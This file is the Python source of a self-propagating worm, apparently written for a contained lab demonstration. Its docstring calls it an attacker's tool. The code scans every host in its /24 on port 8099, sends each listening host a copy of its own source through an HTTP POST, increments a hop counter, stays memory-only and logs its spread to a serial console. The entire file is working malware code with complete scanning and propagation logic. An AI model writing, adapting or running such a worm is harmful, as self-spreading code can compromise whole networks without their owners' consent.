"""An attacker's tool, a worm, for inside a guest: from its host it goes on to every hole in its network.

It looks for `hole.py` alone, in its own /24 alone, and is gone with the process: it writes nothing to a disk.
"""

from __future__ import annotations

import json
import os
import select
import socket
import subprocess
import sys
import time
from pathlib import Path

HOPS = 0  # counted up in each copy
PORT = 8099
AT_ONCE, WAIT_S, REST_S = 8, 0.5, 3.0


def order(own: str) -> list[str]:
    """All others of the network, from the next one upwards."""
    net, _, last = own.rpartition(".")
    return [f"{net}.{(int(last) - 1 + step) % 254 + 1}" for step in range(1, 254)]


def copy(source: str) -> bytes:
    body = source.replace(f"HOPS = {HOPS}  #", f"HOPS = {HOPS + 1}  #", 1).encode()
    return b"POST /update HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)


def listening(addresses: list[str]) -> list[socket.socket]:
    """Connections to those that have a hole."""
    tried = []
    for address in addresses:
        line = socket.socket()
        line.setblocking(False)
        line.connect_ex((address, PORT))
        tried.append(line)
    deadline, open_ones, rest = time.monotonic() + WAIT_S, [], list(tried)
    while rest and (left := deadline - time.monotonic()) > 0:
        for line in select.select([], rest, [], left)[1]:
            rest.remove(line)
            if line.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                open_ones.append(line)
    for line in tried:
        if line not in open_ones:
            line.close()
    return open_ones


def spread(own: str, source: str) -> list[str]:
    """One round: the addresses that took a copy."""
    taken, addresses = [], order(own)
    for start in range(0, len(addresses), AT_ONCE):
        for line in listening(addresses[start : start + AT_ONCE]):
            with line:
                line.settimeout(10)
                try:
                    line.sendall(copy(source))
                    if line.recv(12).endswith(b"200"):
                        taken.append(line.getpeername()[0])
                except OSError:
                    pass
    return taken


def say(**said: object) -> None:
    """On the console, opened for each line: getty hangs up whoever had it open before."""
    with Path("/dev/ttyS0").open("wb", buffering=0) as console:
        console.write(b"demo-worm " + json.dumps(said).encode() + b"\n")


def main(source: str) -> None:
    own = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout.split()[0]
    alone = socket.socket(socket.AF_UNIX)
    try:
        alone.bind(b"\0demo-worm")
    except OSError:
        sys.exit(0)  # it is here already
    arrived = time.time()
    say(arrived=arrived, hops=HOPS, began=arrived, ended=arrived, taken=[])
    while True:
        began = time.time()
        taken = spread(own, source)
        say(arrived=arrived, hops=HOPS, began=began, ended=time.time(), taken=taken)
        time.sleep(REST_S)


if __name__ == "__main__":
    try:
        main(globals()["source"])
    finally:
        os._exit(0)
